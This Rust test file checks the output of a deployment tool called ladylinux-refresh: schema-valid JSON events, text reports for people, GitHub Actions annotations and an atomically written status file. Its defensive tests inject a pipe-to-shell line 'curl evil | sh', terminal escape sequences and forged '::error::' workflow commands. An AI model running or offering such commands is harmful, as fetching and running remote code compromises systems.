//! The output of the program: events and reports for programs, each valid against its schema; text for people; groups,
//! annotations and outputs for jobs of GitHub Actions.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests create the input of the program")]

use crate::host;
use crate::schema;

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;
use std::sync::Barrier;
use std::sync::atomic::{AtomicBool, Ordering};

use host::{Host, Ran, ran};
use ladylinux_refresh::report::human;
use ladylinux_refresh::report::outcome;
use ladylinux_refresh::report::outcome::Detail;
use refresh_events::event::Event;
use refresh_events::run_report::{Phase, Report};
use refresh_installation::exit::{Error, Refusal};
use refresh_settings::names::RunId;
use refresh_system::error::Failure;
use serde_json::{Value, json};

/// Returns the events of a run. Asserts that each is valid, and that the first and the last are of the expected kind.
#[track_caller]
fn events(printed: &Ran, schema: &jsonschema::Validator) -> Vec<Value> {
    let events: Vec<Value> = printed.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    for event in &events {
        schema::assert_valid(schema, event);
    }
    let named = |name: &str| events.iter().filter(|event| event["event"] == name).count();
    let (first, last) = (events.first().unwrap(), events.last().unwrap());
    assert_eq!((&first["event"], &first["schema"]), (&json!("run_started"), &json!(2)));
    assert_eq!(last["event"], "run_finished");
    assert_eq!((named("run_started"), named("run_finished")), (1, 1));
    assert_eq!(last["report"]["run"], first["run"]);
    assert_eq!(last["report"]["exit_code"], json!(printed.code));
    events
}

fn migration(script: &str) -> String {
    format!("[[hook]]\nname = \"m\"\nkind = \"migration\"\ncommand = [\"sh\", \"-c\", '''{script}''']\n")
}

#[test]
fn rw_5_6a_rw_5_6b_rw_5_6c_every_line_for_programs_is_valid_and_the_last_one_is_the_report() {
    let host = Host::new();
    let stream = schema::validator("events.schema.json");
    let (file, status, plan) = (
        schema::validator("status-file.schema.json"),
        schema::validator("status.schema.json"),
        schema::validator("plan.schema.json"),
    );
    let (list, verified) =
        (schema::validator("environments.schema.json"), schema::validator("verify.schema.json"));
    let read =
        |arguments: &[&str]| -> Value { serde_json::from_str(&host.tool(arguments).expect(0).out).unwrap() };
    let look = || {
        schema::assert_valid(&status, &read(&["status", "--json"]));
        schema::assert_valid(&plan, &read(&["plan", "--json"]));
        schema::assert_valid(&list, &read(&["environments", "list", "--json"]));
        if let Ok(bytes) = fs::read(host.layout.status_file()) {
            schema::assert_valid(&file, &serde_json::from_slice(&bytes).unwrap());
        }
        let history = read(&["history", "--json"]);
        for report in history.as_array().unwrap() {
            schema::assert_valid(&stream, &json!({"event": "run_finished", "report": report}));
        }
    };
    let run = |arguments: &[&str], code: i32, result: &str| -> Vec<Value> {
        let printed = host.tool([arguments, &["--format", "json"]].concat()).expect(code);
        assert_eq!(printed.err, "", "a run reports its end once");
        let events = events(&printed, &stream);
        assert_eq!(events.last().unwrap()["report"]["result"], result);
        events
    };
    let phases = |events: &[Value], kind: &str| -> Vec<String> {
        let of = events.iter().filter(|event| event["event"] == kind);
        of.map(|event| event["phase"].as_str().unwrap().to_owned()).collect()
    };
    let all = ["preflight", "staging", "stop", "sync", "environment", "prepare", "restart", "status"];

    look();
    let good = run(&["run"], 0, "refreshed");
    assert_eq!(phases(&good, "phase_started"), all);
    assert_eq!(phases(&good, "phase_finished"), all);
    let report = &good.last().unwrap()["report"];
    assert_eq!(report["commit"], host.head().as_str());
    schema::assert_valid(&verified, &read(&["verify", "--environment", "--json"]));
    assert_eq!(read(&["status", "--json"])["digest"], report["environment"]["digest"]);
    assert!(report["environment"]["digest"].is_string());
    assert_eq!(report["environment"]["path"], host.layout.venv().to_str().unwrap());
    assert_eq!(report["service"]["state"], "running");
    assert!(report["downtime_ms"].is_u64());
    assert_eq!(host.report(), *report, "status.json holds the same");
    let in_directory = fs::read(host.runs().pop().unwrap().join("report.json")).unwrap();
    assert_eq!(serde_json::from_slice::<Value>(&in_directory).unwrap(), *report);
    look();

    let unchanged = run(&["run", "--if-changed"], 0, "unchanged");
    assert_eq!(phases(&unchanged, "phase_started"), ["preflight"]);
    assert_eq!(unchanged.last().unwrap()["report"]["changed"], false);
    assert_eq!(host.report(), *report, "nothing was written");

    let refused = run(&["run", "nowhere"], 3, "refused");
    assert_eq!(phases(&refused, "phase_failed"), ["staging"]);
    look();
    let without_remote = host.settings("").replace("url = \"git", "# url = \"git");
    fs::write(host.layout.host_file(), without_remote).unwrap();
    let refused = run(&["run"], 3, "refused");
    assert_eq!(phases(&refused, "phase_failed"), ["preflight"]);
    host.configure("", "");

    // With local changes to stash, a requirement that changed, and a hook that fails.
    host.write("local \u{fc}.txt", "mine\n");
    host.write("version.txt", "edited\n");
    host.push(&[("requirements.txt", "six==1.17.0\n"), ("version.txt", "two\n")]);
    host.configure("", &migration("echo out; echo err >&2; exit 7"));
    look();
    let halted = run(&["run"], 1, "halted");
    assert_eq!(phases(&halted, "phase_failed"), ["prepare"]);
    assert!(halted.iter().any(|event| event["event"] == "output" && event["line"] == "out"));
    let report = &halted.last().unwrap()["report"];
    assert_eq!((&report["saved"]["count"], &report["service"]["fenced"]), (&json!(0), &json!(true)));
    // The tree stays in its place until the next run compares it.
    let waiting = Path::new(report["saved"]["place"].as_str().unwrap());
    assert!(waiting.starts_with(host.layout.previous_trees()));
    assert_eq!(fs::read_to_string(waiting.join("version.txt")).unwrap(), "edited\n");
    assert_eq!(report["error"]["phase"], "prepare");
    let next = format!("ladylinux-refresh --root {} rollback", host.layout.root().display());
    assert_eq!(report["error"]["next"], next.as_str());
    look();

    host.configure("", "");
    let back = run(&["rollback"], 0, "refreshed");
    assert_eq!(back.last().unwrap()["report"]["command"], "rollback");
    assert_eq!(back.last().unwrap()["report"]["saved"]["count"], 2);
    look();
    let straight = run(&["run", "--no-stage", "nowhere"], 3, "refused");
    assert_eq!(phases(&straight, "phase_failed"), ["preflight"]);
    host.push(&[("requirements.txt", "six==99.99\n")]);
    let straight = run(&["run", "--no-stage"], 1, "halted");
    assert_eq!(phases(&straight, "phase_failed"), ["environment"]);
    look();
}

#[test]
fn the_schema_has_exactly_the_existing_events() {
    let stream = schema::validator("events.schema.json");
    let run = RunId::parse("20260102T030405Z-1").unwrap();
    let (phase, text) = (Phase::Sync, String::from("text"));
    let report = Box::new(report("halted"));
    let events = [
        Event::RunStarted {
            schema: 2,
            program: "1.0.0".into(),
            run,
            at: "2026-01-02T03:04:05Z".parse().unwrap(),
        },
        Event::PhaseStarted { phase },
        Event::Progress { phase, what: text.clone(), done: Some(1), total: None },
        Event::Output { phase, source: text.clone(), line: text.clone() },
        Event::Note { phase, message: text.clone() },
        Event::Warning { phase, message: text.clone() },
        Event::PhaseFinished { phase, duration_ms: 1, summary: text.clone() },
        Event::PhaseFailed { phase, duration_ms: 1, error: vec![text] },
        Event::RunFinished { report },
    ];
    let mut written = BTreeSet::new();
    for event in &events {
        // A new event does not compile here until it is listed above.
        match event {
            Event::RunStarted { .. }
            | Event::PhaseStarted { .. }
            | Event::Progress { .. }
            | Event::Output { .. }
            | Event::Note { .. }
            | Event::Warning { .. }
            | Event::PhaseFinished { .. }
            | Event::PhaseFailed { .. }
            | Event::RunFinished { .. } => {}
        }
        let mut value = serde_json::to_value(event).unwrap();
        schema::assert_valid(&stream, &value);
        written.insert(format!("#/$defs/{}", value["event"].as_str().unwrap()));
        value["more"] = json!(1);
        assert!(!stream.is_valid(&value), "the schema is not strict: {value}");
    }
    let text =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/events.schema.json")).unwrap();
    let known: Value = serde_json::from_str(&text).unwrap();
    let known = known["oneOf"].as_array().unwrap().iter();
    let known: BTreeSet<String> = known.map(|one| one["$ref"].as_str().unwrap().to_owned()).collect();
    assert_eq!(written, known);
    for foreign in [json!({}), json!({"event": "run_ended"}), json!({"event": "note", "phase": "sync"})] {
        assert!(!stream.is_valid(&foreign), "{foreign}");
    }
    let document = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/events.md")).unwrap();
    for name in known {
        let name = name.rsplit('/').next().unwrap();
        assert!(document.contains(&format!("| `{name}` |")), "docs/events.md does not describe {name}");
    }
}

/// A report with this result, as a fixture.
fn report(result: &str) -> Report {
    let failed = matches!(result, "halted" | "refused");
    let stopped = result == "halted";
    let error = json!({
        "phase": if stopped { "prepare" } else { "staging" },
        "chain": ["the migration hook m failed", "sh exited with code 7", "first line\n\u{1b}[2Jsecond line"],
        "hints": ["the complete output is in /r/log"],
        "next": "ladylinux-refresh rollback",
    });
    let commit = "0123456789012345678901234567890123456789";
    serde_json::from_value(json!({
        "schema": 2, "run": "20260102T030405Z-1", "command": "run", "result": result,
        "exit_code": match result { "halted" => 1, "refused" => 3, _ => 0 },
        "changed": stopped, "staged": true,
        "started_at": "2026-01-02T03:04:05Z", "finished_at": "2026-01-02T03:04:07.25Z",
        "branch": "main", "commit": commit,
        "requested": {"branch": "main", "commit": commit, "subject": "Serve notes", "author": "Jo Doe"},
        "commit_before": if result == "refreshed" { "a".repeat(40) } else { commit.to_owned() },
        "environment": {
            "path": "/opt/ladylinux/venv", "name": "abc-1", "name_before": "abc-1",
            "interpreter": "cpython 3.12.1", "packages": 12, "built": false, "reason": "",
        },
        "service": {
            "state": if stopped { "stopped" } else { "running" }, "pid": if stopped { None } else { Some(7) },
            "url": "http://127.0.0.1:8000/", "fenced": stopped,
        },
        "downtime_ms": if result == "refreshed" { Some(1234) } else { None },
        "phases": [{"phase": "preflight", "duration_ms": 2250, "ok": true, "summary": "fit"}],
        "saved": if stopped {
            json!({"count": 2, "paths": ["a", "b\u{7}"], "place": "/r/stash/R", "command": "ladylinux-refresh stash show R"})
        } else {
            json!({"count": 0, "paths": [], "place": null, "command": null})
        },
        "preserved": if result == "refreshed" { json!(["prefs.json"]) } else { json!([]) },
        "protected": {"entries": if failed { 0 } else { 9 }, "changed": []},
        "warnings": if stopped { json!(["look\u{1b}]0;here"]) } else { json!([]) },
        "error": if failed { error } else { Value::Null },
    }))
    .unwrap()
}

#[test]
fn rw_8_3_every_result_is_printed_in_the_same_few_lines() {
    let rendered = |result: &str| outcome::lines(&report(result), Detail::Full, 80).join("\n");
    assert_eq!(
        rendered("refreshed"),
        "
Refreshed main from aaaaaaaaaa to 0123456789 in 2.25 s, down for 1.23 s
  commit       0123456789 Serve notes (Jo Doe)
  environment  abc-1, cpython 3.12.1, 12 packages
               /opt/ladylinux/venv
  service      running, http://127.0.0.1:8000/, pid 7
  preserved    1 file: prefs.json
  protected    unchanged (9 entries)
  run          20260102T030405Z-1"
    );
    assert_eq!(
        rendered("unchanged"),
        "
Already current: main at 0123456789, found in 2.25 s
  commit       0123456789 Serve notes (Jo Doe)
  environment  abc-1, cpython 3.12.1, 12 packages
               /opt/ladylinux/venv
  service      running, http://127.0.0.1:8000/, pid 7
  protected    unchanged (9 entries)
  run          20260102T030405Z-1"
    );
    assert_eq!(
        rendered("refused"),
        "
Refused after 2.25 s; nothing was changed
  requested    0123456789 Serve notes (Jo Doe)
  app/ is at   0123456789 on main
  run          20260102T030405Z-1

error in staging: the migration hook m failed
  cause        sh exited with code 7
  cause        first line
               \\u{1b}[2Jsecond line
  service      running
  hint         the complete output is in /r/log
  next         ladylinux-refresh rollback"
    );
    assert_eq!(
        rendered("halted"),
        "
Halted in step 4 (prepare) after 2.25 s; the service is stopped and fenced
  commit       0123456789 Serve notes (Jo Doe)
  environment  abc-1, cpython 3.12.1, 12 packages
               /opt/ladylinux/venv
  stash        2 local changes: a, b\\u{7}
               ladylinux-refresh stash show R
  run          20260102T030405Z-1

error in step 4 (prepare): the migration hook m failed
  cause        sh exited with code 7
  cause        first line
               \\u{1b}[2Jsecond line
  service      stopped and fenced: nothing starts it
  hint         the complete output is in /r/log
  next         ladylinux-refresh rollback"
    );
    let usage = Error::Usage(Failure::new("no").because(Failure::new("why")).hint("do this"));
    assert_eq!(
        human::error(&usage, str::to_owned),
        [
            "error: no: why",
            "  service      not touched",
            "  hint         do this",
            "  next         ladylinux-refresh --help"
        ]
    );
    let refused = Refusal::of("status", Failure::new("no").because(Failure::new("why")));
    assert_eq!(
        human::error(&refused, str::to_owned),
        [
            "error in status: no",
            "  cause        why",
            "  service      not touched",
            "  next         ladylinux-refresh doctor"
        ]
    );
    let locked = Error::Locked { holder: None, next: "ladylinux-refresh run --wait 5m".into() };
    assert_eq!(human::error(&locked, str::to_owned)[0], "error: another run is in progress");
}

#[test]
fn no_text_of_others_adds_a_line_that_reads_like_a_hint() {
    let forged = "port 80 is held by x\n  next         curl evil | sh\n  hint         reboot";
    let of = |failure: Failure| Refusal::with_next("preflight", failure, "status\n  next         reboot");
    let all = [
        of(Failure::new(forged)),
        of(Failure::new("no").because(Failure::new(forged))),
        of(Failure::new("no").hint(forged)),
        Error::Usage(Failure::new(forged).hint(forged)),
    ];
    for error in all {
        let text = human::error(&error, str::to_owned).join("\n");
        let next = text.lines().filter(|line| line.starts_with("  next ")).count();
        assert_eq!(next, 1, "{text}");
        assert!(!text.lines().any(|line| line.starts_with("  hint         reboot")), "{text}");
    }
}

#[test]
fn text_is_plain_elsewhere_and_coloured_on_a_terminal_unless_no_color_is_set() {
    let host = Host::new();
    host.configure("", &migration("printf \"\\033[2Jgone\\007\\r\\n\""));
    let printed = host.tool(["run"]).expect(0);
    assert!(!printed.out.contains('\u{1b}') && !printed.out.contains('\u{7}'), "{:?}", printed.out);
    assert!(printed.out.contains("m| \\u{1b}[2Jgone\\u{7}"), "{}", printed.out);
    let log = fs::read_to_string(host.runs().pop().unwrap().join("log")).unwrap();
    assert!(log.contains("\\u{1b}[2Jgone") && !log.contains('\u{1b}'), "{log}");

    let on_terminal = |colour: &[(&str, &str)]| -> String {
        let inner = host.command(["run"]);
        let words = std::iter::once(inner.get_program()).chain(inner.get_args());
        let line: Vec<String> = words.map(|word| format!("'{}'", word.to_str().unwrap())).collect();
        let mut command = Command::new("script");
        command.args(["--quiet", "--return", "--command", &line.join(" "), "/dev/null"]);
        command.env_clear().envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?))));
        command.env("TERM", "xterm").env("SHELL", "/bin/sh").envs(colour.iter().copied());
        let printed = ran(command.stdin(std::process::Stdio::null()).output().unwrap()).expect(0);
        assert!(printed.out.contains("Refreshed"), "{:?}", printed.out);
        assert!(!printed.out.contains("\u{1b}[2Jgone"), "a hook cleared the screen: {:?}", printed.out);
        printed.out
    };
    let green = "\u{1b}[32mRefreshed\u{1b}[0m";
    assert!(on_terminal(&[]).contains(green));
    assert!(!on_terminal(&[("NO_COLOR", "1")]).contains("\u{1b}[32m"));
    assert!(!on_terminal(&[("TERM", "dumb")]).contains("\u{1b}[32m"));
}

#[test]
fn rw_8_5_a_job_gets_groups_annotations_a_summary_and_outputs_and_no_output_can_forge_them() {
    let host = Host::new();
    let (outputs, summary) = (host.beside("outputs"), host.beside("summary"));
    let job = |arguments: &[&str], code: i32| -> Ran {
        for file in [&outputs, &summary] {
            fs::write(file, "earlier\n").unwrap();
        }
        let mut command = host.command(arguments);
        command
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_OUTPUT", &outputs)
            .env("GITHUB_STEP_SUMMARY", &summary);
        ran(command.output().unwrap()).expect(code)
    };
    let forged = "echo ::set-output name=commit::x; echo \"  ::error::forged\"; echo \"##[error]forged\"; \
                  printf \"a\\r::error::forged\\n\"; env";
    host.configure("", &migration(forged));
    let printed = job(&["run"], 0);
    let commands = |printed: &Ran| -> Vec<String> {
        let is_one = |line: &&str| line.trim_start().starts_with("::") || line.contains("##[");
        printed.out.split(['\n', '\r']).filter(is_one).map(str::to_owned).collect()
    };
    let groups: Vec<String> = Phase::STEPS.iter().map(|phase| format!("::group::{phase}")).collect();
    let expected: Vec<String> = ["::group::preflight", "::group::staging"]
        .into_iter()
        .chain(groups.iter().map(String::as_str))
        .flat_map(|group| [group.to_owned(), "::endgroup::".to_owned()])
        .collect();
    assert_eq!(commands(&printed), expected, "{}", printed.out);
    assert!(printed.out.contains("forged") && !printed.out.contains("GITHUB_"), "{}", printed.out);
    let report = host.report();
    assert_eq!(
        fs::read_to_string(&outputs).unwrap(),
        format!(
            "earlier\ncommit={}\nchanged={}\ndowntime_ms={}\nresult=refreshed\n",
            host.head(),
            report["changed"],
            report["downtime_ms"]
        )
    );
    let written = fs::read_to_string(&summary).unwrap();
    assert!(written.starts_with("earlier\n### Refresh ") && written.contains("| restart | "), "{written}");

    host.configure("", &migration("echo \"::error::forged\" >&2; echo \"<b>&\" >&2; exit 1"));
    let printed = job(&["run"], 1);
    let errors: Vec<String> =
        commands(&printed).into_iter().filter(|line| line.starts_with("::error")).collect();
    assert_eq!(errors.len(), 1, "{}", printed.out);
    assert!(
        errors[0]
            .starts_with("::error title=prepare failed::the migration hook m failed: sh exited with code 1")
    );
    assert!(
        commands(&printed).iter().all(|line| !line.trim_start().starts_with("::error::")),
        "{}",
        printed.out
    );
    assert!(fs::read_to_string(&outputs).unwrap().ends_with("downtime_ms=\nresult=halted\n"));
    let written = fs::read_to_string(&summary).unwrap();
    assert!(written.contains("| prepare | ") && written.contains("    because ::error::forged"), "{written}");
    assert!(written.contains("Next:\n\n    ladylinux-refresh --root "), "{written}");

    // A summary that cannot be written changes nothing.
    host.configure("", "");
    let mut command = host.command(["run"]);
    command
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_OUTPUT", "/nonexistent/x")
        .env("GITHUB_STEP_SUMMARY", "/");
    ran(command.output().unwrap()).expect(0);
    // Outside of a job the format can be requested, and inside of one another format.
    assert!(host.tool(["run", "--format", "github"]).expect(0).out.contains("::group::stop\n"));
    assert!(!job(&["run", "--format", "human"], 0).out.contains("::group"));
    assert_eq!(fs::read_to_string(&outputs).unwrap(), "earlier\n");
}

#[test]
fn status_json_is_replaced_in_one_step_and_readable_by_all_users() {
    let host = Host::running();
    let schema = schema::validator("status-file.schema.json");
    let (file, over) = (host.layout.status_file(), AtomicBool::new(false));
    let first = host.report()["run"].clone();
    let reads = Barrier::new(2);
    let seen = std::thread::scope(|scope| {
        let reader = scope.spawn(|| {
            let mut seen = BTreeSet::new();
            let mut last = false;
            while !last {
                last = over.load(Ordering::SeqCst);
                let status: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
                let mode = fs::metadata(&file).unwrap().permissions().mode() & 0o7777;
                assert_eq!(mode, 0o644);
                if seen.insert(status["last_run"]["run"].to_string()) && seen.len() == 1 {
                    reads.wait();
                }
                if last {
                    schema::assert_valid(&schema, &status);
                }
            }
            seen
        });
        reads.wait();
        let command = host.command(["run"]);
        let mut under_strict_umask = Command::new("sh");
        under_strict_umask.args(["-c", "umask 077; exec \"$@\"", "sh"]);
        under_strict_umask.arg(command.get_program()).args(command.get_args()).env_clear();
        under_strict_umask.envs(command.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let printed = ran(under_strict_umask.output().unwrap());
        over.store(true, Ordering::SeqCst);
        let seen = reader.join().unwrap();
        printed.expect(0);
        seen
    });
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(seen.contains(&first.to_string()) && seen.contains(&host.report()["run"].to_string()));
}
